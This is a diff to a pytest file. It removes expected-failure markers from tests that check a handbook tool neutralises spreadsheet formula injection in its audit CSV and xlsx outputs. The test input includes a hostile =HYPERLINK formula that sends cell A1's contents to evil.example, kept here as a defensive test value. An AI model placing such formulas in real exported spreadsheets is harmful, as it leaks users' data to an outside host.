@@ -11,7 +11,6 @@ import csv
 import io
 from pathlib import Path
 
-import pytest
 from openpyxl import load_workbook
 
 from support import TODAY, run_handbook
@@ -26,7 +25,6 @@ def _live_cells(text: str) -> list[str]:
     return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
 
 
-@pytest.mark.xfail(strict=True, reason="issue 15: audit sheet CSV writes formulas as they are")
 def test_audit_sheet_csv_neutralises_every_formula_start(tmp_path: Path) -> None:
     project = hostile_project(tmp_path, "formula-cells")
     run = run_handbook("audit", "sheet", str(project), "--role", "truong-ca")
@@ -34,10 +32,10 @@ def test_audit_sheet_csv_neutralises_every_formula_start(tmp_path: Path) -> None
     assert run.code == 0, run.err
     assert _live_cells(run.out) == []
     # The text itself survives behind the prefix.
-    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")' in run.out
+    cells = [cell for row in csv.reader(io.StringIO(run.out)) for cell in row]
+    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")' in cells
 
 
-@pytest.mark.xfail(strict=True, reason="issue 15: audit sheet xlsx stores =... as a formula")
 def test_audit_sheet_xlsx_writes_formula_text_as_string_cells(tmp_path: Path) -> None:
     project = hostile_project(tmp_path, "formula-cells")
     sheet = tmp_path / "sheet.xlsx"
@@ -56,7 +54,6 @@ def test_audit_sheet_xlsx_writes_formula_text_as_string_cells(tmp_path: Path) ->
     assert '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")' in actions
 
 
-@pytest.mark.xfail(strict=True, reason="issue 15: audit report CSV writes titles as they are")
 def test_audit_report_csv_neutralises_titles(tmp_path: Path) -> None:
     # A second way in: the SOP title and a step action reach the report's `title` column.
     project = hostile_project(tmp_path, "formula-cells")
